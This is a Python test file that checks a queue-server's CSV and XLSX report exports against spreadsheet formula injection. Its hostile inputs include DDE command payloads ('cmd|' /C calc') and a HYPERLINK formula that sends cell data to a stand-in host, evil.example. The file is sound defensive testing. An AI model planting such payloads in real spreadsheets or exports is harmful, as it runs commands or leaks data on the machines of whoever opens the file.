"""Every exported table is safe to open in a spreadsheet: no text a person typed becomes a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl

from queue_server.reports import files

from ...conftest import Harness  # type: ignore[import-not-found]

# What the OWASP guidance on CSV injection names: a cell starting with one of these is a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = "=cmd|' /C calc'!A0"
HOSTILE = {
    "matter": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "department": "-2+3+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "assign": "\t=1+1",
    "correction": "+1+cmd|' /C calc'!A0",
    "deduction": "\r=2+2",
}
EXPORTS = [
    "/api/v1/reports/figures?period=2026-12&by=clerk",
    "/api/v1/reports/figures?period=2026-12&by=window",
    "/api/v1/reports/attendance?period=2026-12&by=clerk&days=1",
    "/api/v1/reports/assessment?period=2026-12",
    "/api/v1/reports/red-flags?period=2026-12",
    "/api/v1/ledger/export?month=2026-12",
]


def test_text_that_starts_like_a_formula_is_quoted() -> None:
    for text in (*HOSTILE.values(), HOSTILE_NAME, "-", "=", "@"):
        assert files.safe(text) == "'" + text
    for text in ("张三", "A023", "'=already quoted", "2026-12-01", ""):
        assert files.safe(text) == text
    assert files.safe(-3) == -3 and files.safe(0.25) == 0.25 and files.safe(None) is None


def _csv_cells(body: bytes) -> list[Any]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(body: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells {formulas}"
    return [c.value for c in cells]


def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_every_export_neutralizes_hostile_text(server: Harness) -> None:
    """A clerk named like a formula, a 办不成事 case and a score correction full of formulas, through every export."""
    await server.person("evil", staff_no="0666", name=HOSTILE_NAME, windows=(15,))
    clerk = server.client()
    await clerk.login("evil")
    assert (await clerk.post("/api/v1/windows/15/open"))[0] == 200
    kiosk = await server.kiosk()
    await kiosk.post("/api/v1/tickets", {"service": "pension"})
    assert (await clerk.post("/api/v1/windows/15/call-next"))[0] == 200
    assert (await clerk.post("/api/v1/windows/15/finish"))[0] == 200
    assert (await clerk.post("/api/v1/windows/15/close"))[0] == 200
    desk = await server.clerk_at(40)
    status, case = await desk.post("/api/v1/ledger", {"matter": HOSTILE["matter"], "reason": "materials",
                                                      "department": HOSTILE["department"], "note": HOSTILE["note"]})
    assert status == 201, case
    status, _ = await desk.post(f"/api/v1/ledger/{case['id']}/assign", {"department": HOSTILE["department"],
                                                                        "note": HOSTILE["assign"]})
    assert status == 200
    await server.person("boss", "manager")
    boss = server.client()
    await boss.login("boss")
    evil = await server.hall.store.person(login="evil")
    status, _ = await boss.put(f"/api/v1/reports/assessment/2026-12/{evil.id}", {
        "note": HOSTILE["correction"], "deductions": [{"points": 2, "reason": HOSTILE["deduction"]}]})
    assert status == 200

    seen: set[Any] = set()
    for path in EXPORTS:
        for fmt in ("csv", "xlsx"):
            async with boss.session.get(f"{server.base}{path}&format={fmt}") as resp:
                assert resp.status == 200, (path, fmt, await resp.text())
                body = await resp.read()
            cells = _csv_cells(body) if fmt == "csv" else _xlsx_cells(body)
            live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START) and not _numeric(c)]
            assert not live, (path, fmt, live)
            seen |= {(fmt, c) for c in cells if isinstance(c, str)}
    for fmt in ("csv", "xlsx"):  # each hostile text did reach a file, quoted
        assert (fmt, "'" + HOSTILE_NAME) in seen
        assert (fmt, "'" + HOSTILE["matter"]) in seen and (fmt, "'" + HOSTILE["correction"]) in seen
        assert any(c.replace("\n", "\r").startswith("'\r=2+2（扣2分）") for f, c in seen if f == fmt)  # XLSX reads \r as \n
